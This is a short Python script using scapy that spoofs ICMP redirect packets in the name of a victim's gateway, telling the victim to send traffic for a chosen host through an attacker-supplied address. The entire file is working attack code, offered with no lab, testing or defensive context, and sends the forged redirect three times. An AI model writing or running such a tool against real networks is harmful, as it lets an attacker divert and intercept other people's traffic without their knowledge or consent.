#!/usr/bin/python3
# Tells a victim, in its gateway's name, that there is a better way to a host: ours.
from scapy.all import *
import sys

victim, gateway, target, liar = sys.argv[1:5]

ip = IP(src=gateway, dst=victim)
icmp = ICMP(type=5, code=1)
icmp.gw = liar

# The redirect quotes the packet that would have had a better way.
quoted = IP(src=victim, dst=target)/ICMP()
for i in range(3):
    send(ip/icmp/quoted, verbose=False)
print("redirected", target, "to", liar)
